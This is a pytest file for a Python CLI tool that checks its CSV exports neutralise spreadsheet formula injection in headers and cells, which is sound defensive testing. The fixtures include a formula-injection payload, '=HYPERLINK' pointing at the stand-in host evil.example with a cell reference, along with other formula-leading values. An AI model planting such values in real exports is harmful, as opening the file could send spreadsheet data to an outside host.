"""Every CSV the project writes guards its header and its cells against spreadsheet formulas.

A theme named ``=HYPERLINK(...)`` in a case file becomes a column name of the themes
matrix; a spreadsheet opening the CSV runs it.  The same guard must hold for the header
and the cells of every CSV (``export csv``, ``export csv --what matrix``, ``matrix
--format csv``, ``list``/``search``/``note list``/``tag list`` ``--format csv``).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner

from ccgtui.cli import cli
from tests.conftest import MINIMAL_CASE

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'
Run = Callable[..., tuple[int, str, str]]


@pytest.fixture
def run(minimal_folder: Path) -> Run:
    case = MINIMAL_CASE.replace("label: Case A", f"label: {json.dumps('@SUM(1+1)*cmd')}")
    case += f"themes: [{json.dumps(FORMULA)}, '-2+3']\n"
    (minimal_folder / "case-a.yaml").write_text(case, encoding="utf-8")

    def invoke(*args: str) -> tuple[int, str, str]:
        result = CliRunner().invoke(cli, ["--cases", str(minimal_folder), *args])
        return result.exit_code, result.stdout, result.stderr

    code, _, err = invoke("note", "add", "case:case-a", "+1 note")
    assert code == 0, err
    code, _, err = invoke("tag", "add", "case-a", "=tag")
    assert code == 0, err
    return invoke


CSV_COMMANDS = [
    ("matrix", "--by", "themes", "--format", "csv"),
    ("matrix", "--by", "sectors", "--format", "csv"),
    ("export", "csv", "--what", "matrix", "--by", "themes"),
    ("export", "csv"),
    ("export", "csv", "--long"),
    ("list", "--format", "csv"),
    ("search", "note", "--format", "csv"),
    ("note", "list", "--format", "csv"),
    ("tag", "list", "--format", "csv"),
    ("bookmark", "list", "--format", "csv"),
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("args", CSV_COMMANDS, ids=" ".join)
def test_no_csv_cell_or_header_starts_a_formula(run: Run, args: tuple[str, ...]) -> None:
    code, out, err = run(*args)
    assert code == 0, err
    dangerous = [c for c in _cells(out) if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")]
    assert dangerous == []


def test_the_themes_matrix_header_is_guarded_and_kept(run: Run) -> None:
    code, out, _ = run("matrix", "--by", "themes", "--format", "csv")
    assert code == 0
    header = next(csv.reader(io.StringIO(out)))
    assert "'" + FORMULA in header and "'-2+3" in header


def test_raw_csv_keeps_the_text_as_written(run: Run) -> None:
    code, out, _ = run("export", "csv", "--what", "matrix", "--by", "themes", "--raw-csv")
    assert code == 0
    assert FORMULA in next(csv.reader(io.StringIO(out)))


def test_the_export_modules_do_not_load_the_cli() -> None:
    """Issue 14: export reached up to the CLI (and click) for the CSV guard."""
    code = (
        "import sys, ccgtui.export.csv_export, ccgtui.export.matrix_export;"
        "print(sorted(m for m in sys.modules if m == 'click' or m.startswith('ccgtui.cli')))"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == "[]"
